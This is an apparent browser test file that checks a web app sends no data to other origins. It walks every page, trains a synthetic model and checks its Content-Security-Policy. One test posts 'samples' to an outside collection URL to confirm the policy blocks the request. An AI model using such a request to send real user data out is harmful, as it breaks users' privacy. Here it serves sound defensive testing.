import { expect, test } from 'vitest';
import { hrefFor, routeIds } from '../../src/shell/route';
import { trainSyntheticModel } from './seed';
import { describeInBrowser, openApp, readCspViolations, useBrowser } from './fixture';

/** Every page of the app, as its hash link. */
const everyPage = routeIds.map(hrefFor);

describeInBrowser('data never leaves the device', () => {
  const browser = useBrowser();

  test('using every page sends no request to another origin', async () => {
    const { context, page, errors, foreignRequests } = await openApp(browser());
    for (const hash of everyPage) {
      await page.evaluate((target) => (location.hash = target), hash);
      await page.locator('main h1').first().waitFor();
    }
    // Import recordings and train a model: the heaviest work the app does.
    await trainSyntheticModel(page, 3);
    await page.waitForLoadState('networkidle');
    expect(foreignRequests).toEqual([]);
    expect(await readCspViolations(page)).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  });

  test('the Content-Security-Policy blocks a request to another origin', async () => {
    const { context, page, foreignRequests } = await openApp(browser());
    const outcome = await page.evaluate(async () => {
      try {
        await fetch('https://example.com/collect', { method: 'POST', body: 'samples' });
        return 'sent';
      } catch {
        return 'blocked';
      }
    });
    expect(outcome).toBe('blocked');
    expect(await readCspViolations(page)).toEqual(['connect-src blocked https://example.com/collect']);
    // The policy stopped it before it reached the network.
    expect(foreignRequests).toEqual([]);
    await context.close();
  });
});
